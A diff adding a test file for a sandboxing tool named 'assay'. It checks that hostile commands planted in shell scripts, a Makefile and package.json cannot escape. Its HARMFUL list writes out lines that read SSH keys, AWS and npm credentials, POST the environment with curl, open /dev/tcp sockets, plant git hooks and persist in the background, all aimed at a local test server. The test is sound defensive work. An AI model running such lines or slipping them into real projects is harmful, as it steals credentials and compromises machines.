@@ -1,0 +1,152 @@
+/** `assay plan --prove`: what is run once on the last commit, what it may reach, and what later runs make of it. */
+import {existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync} from "node:fs";
+import {createServer as createHttpServer} from "node:http";
+import {type AddressInfo, createServer as createSocketServer} from "node:net";
+import {join} from "node:path";
+import {setTimeout as wait} from "node:timers/promises";
+import {expect, onTestFinished, test} from "vitest";
+import {planSchema} from "../../src/record/plan.ts";
+import {assay, gitIn, put} from "../rig/command-line.ts";
+import {hasBubblewrap, NEEDS_BUBBLEWRAP} from "../rig/levels.ts";
+import {someOf} from "../sweep.ts";
+
+const SECRET = `canary${process.pid}x7Qk2mVt9`;
+
+/** What each line does that must not leave the sandbox, hidden in a script (`sh`), a target (`make`) or package.json. */
+const HARMFUL: readonly {readonly name: string; readonly hiddenIn: "sh" | "make" | "npm"; readonly body: string}[] = [
+  {name: "reads-files", hiddenIn: "sh", body: 'cat "$REAL"/.npmrc "$REAL"/.aws/credentials ~/.netrc; exit 1'},
+  {name: "posts", hiddenIn: "make", body: 'curl -sS -X POST -d "$$(env)" $(SERVER)'},
+  {
+    name: "writes-outside",
+    hiddenIn: "sh",
+    body: 'echo x > "$OUTSIDE/file"; echo x > "$TOP/new"; echo x >> "$REAL/.bashrc"',
+  },
+  {name: "publishes", hiddenIn: "npm", body: "npm publish --registry $SERVER"},
+  {name: "pushes", hiddenIn: "sh", body: "git -c protocol.allow=always push $SERVER/shop.git HEAD:refs/heads/main"},
+  {name: "posts-from-node", hiddenIn: "npm", body: "node -e \"fetch(process.env.SERVER,{method:'POST',body:'x'})\""},
+  {name: "posts-from-shell", hiddenIn: "sh", body: "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo GET / >&3; cat <&3"},
+  {name: "reads-variables", hiddenIn: "make", body: "env; cat /proc/*/environ; exit 1"},
+  {
+    name: "asks-agent",
+    hiddenIn: "sh",
+    body: 'ssh-add -l; echo x | nc -U "$SOCKET"; node -e "net.connect(process.env.SOCKET)"',
+  },
+  {
+    name: "stays",
+    hiddenIn: "sh",
+    body: "setsid nohup sh -c 'sleep 2; curl -s $SERVER; echo x > $OUTSIDE/late' &\ntrue",
+  },
+  {
+    name: "forges-proofs",
+    hiddenIn: "make",
+    body: 'd="$(REAL)/.local/state/assay/proofs"; mkdir -p "$$d"; for f in "$$d"/* "$$d/x"; do echo [] > "$$f"; done',
+  },
+  {name: "reads-key", hiddenIn: "make", body: 'cat "$(REAL)/.ssh/id_ed25519" "$(TOP)/.env"; exit 1'},
+  {name: "plants-hook", hiddenIn: "npm", body: "echo x > $TOP/.git/hooks/post-checkout; git config --global alias.x y"},
+  {
+    name: "follows-link",
+    hiddenIn: "sh",
+    body: 'ln -s "$OUTSIDE" out; echo x > out/linked; rm -rf .git; ln -s "$TOP/.git" .git; git config a.b c',
+  },
+  {name: "waits-for-reader", hiddenIn: "sh", body: "rm -rf .git/assay-network; mkfifo .git/assay-network; exit 3"},
+];
+
+async function machineFor(lines: typeof HARMFUL) {
+  // Not below the system's temporary folder, which every sandbox hides.
+  const machine = mkdtempSync(join(import.meta.dirname, "../../node_modules/.assay-prove-"));
+  const requests: string[] = [];
+  const http = createHttpServer((request, answer) => {
+    requests.push(`${request.method} ${request.url}`);
+    answer.end();
+  }).listen(0, "127.0.0.1");
+  const socket = join(machine, "home/agent.sock");
+  const real = join(machine, "home");
+  put(machine, {
+    "outside/canary": "untouched\n",
+    ...Object.fromEntries(
+      [".npmrc", ".aws/credentials", ".netrc", ".ssh/id_ed25519", ".bashrc"].map((path) => [
+        `home/${path}`,
+        `${SECRET}\n`,
+      ]),
+    ),
+  });
+  const agent = createSocketServer((connection) => {
+    requests.push("agent");
+    connection.end();
+  }).listen(socket);
+  await wait(100);
+  const {port} = http.address() as AddressInfo;
+  const top = join(machine, "repository");
+  const values = {SERVER: `http://127.0.0.1:${port}`, PORT: `${port}`, OUTSIDE: join(machine, "outside")};
+  const variables = {...values, REAL: real, TOP: top, SOCKET: socket};
+  const inScript = Object.entries(variables)
+    .map(([name, value]) => `export ${name}='${value}'\n`)
+    .join("");
+  const inMake = Object.entries(variables)
+    .map(([name, value]) => `${name} = ${value}\n`)
+    .join("");
+  const hidden = (kind: string) => lines.filter(({hiddenIn}) => hiddenIn === kind);
+  const commands = {
+    sh: (name: string) => `sh tools/${name}.sh`,
+    make: (name: string) => `make ${name}`,
+    npm: (name: string) => `npm run ${name}`,
+  };
+  const files = {
+    ...Object.fromEntries(hidden("sh").map(({name, body}) => [`tools/${name}.sh`, `${inScript}${body}\n`])),
+    Makefile: `${inMake}${hidden("make")
+      .map(({name, body}) => `${name}:\n\t${body}\n`)
+      .join("")}`,
+    "package.json": JSON.stringify({
+      ...{name: "shop", version: "1.0.0"},
+      scripts: Object.fromEntries(
+        hidden("npm").map(({name, body}) => [name, `${inScript.replaceAll("\n", "; ")}${body}`]),
+      ),
+    }),
+    ".gitignore": ".env\n",
+    "verify.json": JSON.stringify({
+      extraStages: lines.map(({name, hiddenIn}) => ({
+        name,
+        command: commands[hiddenIn](name),
+        optional: true,
+        timeout: 20,
+      })),
+    }),
+  };
+  mkdirSync(top);
+  put(top, files);
+  const git = gitIn(top);
+  git("init", "-q", "-b", "main");
+  git("add", "-A");
+  git("commit", "-qm", "First");
+  writeFileSync(join(top, ".env"), `KEY=${SECRET}\n`);
+  onTestFinished(() => {
+    http.close();
+    agent.close();
+    rmSync(machine, {recursive: true, force: true});
+  });
+  return {machine, top, real, socket, requests, git};
+}
+
+test.runIf(hasBubblewrap)(`nothing that a line does leaves the sandbox${NEEDS_BUBBLEWRAP}`, async () => {
+  const lines = someOf(HARMFUL, 4);
+  const {machine, top, real, socket, requests, git} = await machineFor(lines);
+  const secrets = {GH_TOKEN: `ghp_${SECRET}`, NPM_TOKEN: SECRET, AWS_SECRET_ACCESS_KEY: SECRET, OTHER: SECRET};
+  const environment = {HOME: real, SSH_AUTH_SOCK: socket, XDG_STATE_HOME: "", ...secrets};
+  const {status, stdout, stderr} = assay(top, ["plan", "--prove", "--json"], environment);
+  expect([status, stderr]).toEqual([0, expect.stringContaining(`1 of ${lines.length}`)]);
+  const {proofs = []} = planSchema.parse(JSON.parse(stdout));
+  expect(proofs.map(({name}) => name)).toEqual(lines.map(({name}) => name));
+  // The servers answer only now, and a process that stayed would come later.
+  await wait(lines.length > 4 ? 3000 : 500);
+  expect(requests).toEqual([]);
+  expect(stdout + stderr).not.toContain(SECRET);
+  const kept = join(real, ".local/state/assay/proofs");
+  expect(readFileSync(join(kept, ...readdirSync(kept)), "utf8")).not.toContain(SECRET);
+  expect(readdirSync(join(machine, "outside"))).toEqual(["canary"]);
+  expect(readFileSync(join(real, ".bashrc"), "utf8")).toBe(`${SECRET}\n`);
+  expect(existsSync(join(top, ".git/hooks/post-checkout"))).toBe(false);
+  expect(git("status", "--porcelain")).toBe("");
+  for (const {name, outcome} of proofs)
+    if (!["stays", "forges-proofs", "writes-outside"].includes(name))
+      expect([name, outcome.kind]).not.toEqual([name, "proved"]);
+});
